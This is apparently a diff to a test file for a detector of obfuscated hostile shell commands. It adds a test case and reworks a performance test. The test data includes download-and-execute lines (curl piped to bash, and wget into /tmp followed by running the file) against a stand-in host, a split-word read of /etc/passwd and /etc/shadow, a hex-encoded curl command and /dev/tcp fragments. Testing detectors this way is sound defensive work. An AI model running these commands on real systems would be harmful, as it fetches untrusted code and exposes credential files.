@@ -26,6 +26,10 @@ ruleCases(
       says: /dev\/tcp/,
     },
     'what is fetched and run': { rows: sh('curl -fsSL https://x.example/i.sh | bash -s -- -y'), severity: 'medium' },
+    'what is fetched into a scratch folder and run': {
+      rows: sh('wget -q -O /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a'),
+      severity: 'medium',
+    },
     'words in pieces': { rows: sh('cat$IFS/etc/passwd$IFS/etc/shadow'), severity: 'medium' },
     'words as numbers': { rows: sh(String.raw`$(printf '\x63\x75\x72\x6c\x20\x78\x20\x7c') x`), severity: 'medium' },
     'Python with a connection': {
@@ -72,24 +76,34 @@ ruleCases(
 
 test('a hostile command line takes no time', () => {
   const pieces = [
-    'socket ',
-    'exec(',
-    '$IFS',
-    "a''",
-    'base64 -d ',
-    'curl ',
-    'eval $(',
-    'x=ab;',
-    '\\x41',
-    '>/dev/tcp/a/1 ',
-    'exec 3<>/dev/tcp/',
-    '-o /tmp/a ',
+    ...[
+      'socket connect ',
+      'Socket connect(',
+      'exec(',
+      'eval exec(',
+      '$IFS',
+      "a''",
+      'base64 -d ',
+      'curl -o /tmp/a ',
+      'sh -c ',
+    ],
+    ...[
+      'eval "$(base64 ',
+      'x=ab;',
+      '\\x41',
+      '>/dev/tcp/a/1 ',
+      'exec 3<>/dev/tcp/',
+      '<(curl ',
+      'openssl enc ',
+      'source ',
+    ],
   ];
+  const started = performance.now();
   for (const piece of pieces) {
     const text = piece.repeat(Math.ceil(32_000 / piece.length));
-    const started = performance.now();
     judged(commandLineObfuscated, sh(text));
     judged(commandLineObfuscated, python(text));
-    assert.ok(performance.now() - started < 500, `${piece} took ${performance.now() - started} ms`);
   }
+  const each = (performance.now() - started) / pieces.length;
+  assert.ok(each < 500, `${each} ms each`);
 });
